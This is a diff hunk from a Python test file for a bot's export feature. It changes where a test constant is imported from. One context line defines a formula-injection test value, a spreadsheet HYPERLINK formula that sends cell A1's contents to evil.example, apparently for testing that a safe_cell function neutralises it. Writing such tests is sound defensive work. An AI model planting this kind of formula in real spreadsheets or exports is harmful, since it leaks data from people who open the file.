@@ -16,7 +16,8 @@ from bot.commands.export import safe_cell
 from bot.conversation.inbound import Join
 from bot.records.export import respondents
 from dialogues.inbound import Decline, Skip
-from tests.bot.commands import CAMPAIGN, Deployment, deployed, sauti
+from tests.bot.commands import Deployment, deployed, sauti
+from tests.kit.example import CAMPAIGN
 
 STORY = "Soldiers at the checkpoint read my messages, habari"  # free text, sealed in Redis
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # typed by someone in the public
